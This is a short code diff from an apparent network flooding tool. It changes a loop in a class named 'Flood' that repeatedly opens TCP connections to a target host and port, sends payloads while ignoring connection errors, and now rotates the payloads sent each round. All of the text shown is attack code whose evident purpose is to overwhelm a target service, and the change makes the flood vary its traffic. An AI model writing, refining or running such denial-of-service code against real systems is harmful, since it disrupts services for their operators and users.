@@ -294,7 +294,7 @@ class Flood:
             turn = 0
             while self.until():
                 began = time.monotonic()
-                for words in large if turn % 2 else small[:200]:
+                for words in large if turn % 2 else small[turn * 100 % 2250 :][:200]:  # new ones every time
                     with suppress(OSError), socket.create_connection((host, int(port)), 1) as sock:
                         sock.sendall(words)
                 turn += 1
